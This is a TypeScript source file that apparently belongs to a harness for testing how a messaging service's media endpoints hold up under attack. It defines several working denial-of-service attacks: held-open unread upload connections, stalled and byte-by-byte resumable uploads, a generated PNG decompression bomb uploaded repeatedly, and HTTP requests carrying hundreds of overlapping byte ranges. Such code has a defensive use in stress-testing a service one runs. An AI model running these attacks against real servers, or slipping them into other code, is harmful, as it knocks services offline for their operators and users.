import { once } from 'node:events';
import { connect } from 'node:net';
import { crc32, deflateSync } from 'node:zlib';
import {
  base,
  bearer,
  createConversation,
  hold,
  host,
  hostname,
  loop,
  openUnread,
  port,
  range,
  run,
  text,
  tokens,
} from './attack-tools.ts';
import type { Attacks } from './attack-tools.ts';

const DECLARE =
  'mutation($id: ID!, $files: [String!]) { sendMessage(conversationId: $id, files: $files) { media { id legacyId } } }';
const FILES_PER_MESSAGE = 20;
const TUS = { 'tus-resumable': '1.0.0' };
const PIECE_TYPE = 'application/offset+octet-stream';
const PIECE = text(60_000);

interface DeclaredMedia {
  readonly id: string;
  readonly legacyId: number;
}

/** Sends messages that declare files, in a conversation of each account. */
async function declareFiles(): Promise<(index: number) => Promise<readonly DeclaredMedia[]>> {
  const ids = await Promise.all(tokens.map((_, index) => createConversation(index)));
  const files = range(FILES_PER_MESSAGE).map(String);
  return async (index) => {
    const { sendMessage } = await run<{ sendMessage: { media: readonly DeclaredMedia[] } }>(index, DECLARE, {
      id: ids[index % ids.length],
      files,
    });
    return sendMessage.media;
  };
}

/** Starts a resumable upload, and returns its path. */
async function startUpload(index: number, { id }: DeclaredMedia, size: number): Promise<string> {
  const metadata = `mediaId ${Buffer.from(id).toString('base64')}`;
  const response = await fetch(`${base}/media/resumable/`, {
    method: 'POST',
    headers: {
      ...TUS,
      ...bearer(index),
      'upload-length': String(size),
      'upload-metadata': metadata,
    },
  });
  const location = response.headers.get('location');
  if (location === null) throw new Error(`No upload was started: ${response.status}`);
  return location;
}

const tusHead = (method: string, path: string, headers: Readonly<Record<string, string>>): string =>
  [
    `${method} ${path} HTTP/1.1`,
    `Host: ${host}`,
    ...Object.entries({ ...TUS, ...headers }).map(([key, value]) => `${key}: ${value}`),
    '\r\n',
  ].join('\r\n');

/** Uploads a file as legacy clients do. */
async function upload(
  index: number,
  { legacyId }: DeclaredMedia,
  file: Uint8Array<ArrayBuffer>,
): Promise<void> {
  const form = new FormData();
  form.append('file', new Blob([file], { type: 'image/png' }), 'picture.png');
  const response = await fetch(`${base}/media/upload/${legacyId}`, {
    method: 'POST',
    headers: bearer(index),
    body: form,
  });
  await response.arrayBuffer();
}

/** A PNG of a few kilobytes that takes a gigabyte once it is decoded. */
function createBomb(): Uint8Array<ArrayBuffer> {
  const SIDE = 16_000;
  const header = Buffer.alloc(13);
  header.writeUInt32BE(SIDE, 0);
  header.writeUInt32BE(SIDE, 4);
  header.set([8, 6, 0, 0, 0], 8);
  const chunk = (type: string, data: Buffer): Buffer => {
    const content = Buffer.concat([Buffer.from(type), data]);
    const [length, checksum] = [Buffer.alloc(4), Buffer.alloc(4)];
    length.writeUInt32BE(data.length);
    checksum.writeUInt32BE(crc32(content));
    return Buffer.concat([length, content, checksum]);
  };
  const pixels = deflateSync(Buffer.alloc(4 * SIDE * 256));
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return new Uint8Array(
    Buffer.concat([signature, chunk('IHDR', header), chunk('IDAT', pixels), chunk('IEND', Buffer.alloc(0))]),
  );
}

/** Attacks on files, by name. */
export const MEDIA_ATTACKS: Attacks = {
  'stranger-uploads': () =>
    hold(300, () =>
      openUnread(
        tusHead('PATCH', '/media/resumable/x', {
          'content-type': PIECE_TYPE,
          'upload-offset': '0',
          'content-length': '1000000',
        }) + text(900_000),
      ),
    ),
  'stalled-uploads': async () => {
    const declare = await declareFiles();
    const uploads = await Promise.all(
      tokens.map(async (_, index) =>
        Promise.all((await declare(index)).map((media) => startUpload(index, media, 1_000_000))),
      ),
    );
    const paths = uploads.flatMap((each, index) => each.map((path) => ({ path, index })));
    hold(200, async (at) => {
      const { path, index } = paths[at % paths.length] ?? { path: '', index: 0 };
      const headers = {
        ...bearer(index),
        'content-type': PIECE_TYPE,
        'upload-offset': '0',
        'content-length': '1000000',
      };
      return openUnread(tusHead('PATCH', path, headers) + PIECE);
    });
  },
  'small-pieces': async () => {
    const declare = await declareFiles();
    loop(tokens.length, async (index) => {
      for (const media of await declare(index)) {
        const path = await startUpload(index, media, 10_000);
        for (const offset of range(10_000)) {
          const response = await fetch(`${base}${path}`, {
            method: 'PATCH',
            headers: {
              ...TUS,
              ...bearer(index),
              'content-type': PIECE_TYPE,
              'upload-offset': String(offset),
            },
            body: 'x',
          });
          await response.arrayBuffer();
          if (!response.ok) break;
        }
      }
    });
  },
  'image-bombs': async () => {
    const declare = await declareFiles();
    const bomb = createBomb();
    loop(tokens.length, async (index) => {
      for (const media of await declare(index)) await upload(index, media, bomb);
    });
  },
  'overlapping-ranges': async () => {
    const declare = await declareFiles();
    const [media] = await declare(0);
    if (media === undefined) throw new Error('No file was declared');
    await upload(0, media, new Uint8Array(1_000_000));
    const ranges = range(300).map((at) => `${at}-999999`);
    hold(60, async () => {
      const socket = connect({ host: hostname, port: Number(port) });
      socket.on('error', () => undefined);
      await once(socket, 'connect');
      socket.pause();
      const { authorization } = bearer(0);
      socket.write(
        `GET /media/${media.legacyId} HTTP/1.1\r\nHost: ${host}\r\nAuthorization: ${authorization}\r\nRange: bytes=${ranges.join(',')}\r\n\r\n`.repeat(
          5,
        ),
      );
      return socket;
    });
  },
};
